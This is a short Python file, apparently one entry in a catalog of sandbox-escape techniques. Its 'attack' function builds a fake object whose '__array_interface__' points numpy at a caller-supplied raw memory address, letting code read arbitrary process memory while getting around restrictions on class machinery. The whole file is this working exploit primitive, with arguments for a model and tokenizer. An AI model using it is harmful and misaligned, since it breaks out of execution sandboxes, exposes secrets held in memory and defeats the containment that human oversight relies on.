"""Class: class machinery. Source: own find. Escape: a real object takes attributes by keyword."""

import numpy as np
from types import SimpleNamespace


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    return np.array(SimpleNamespace(**{"__array_interface__": spec})).tobytes()
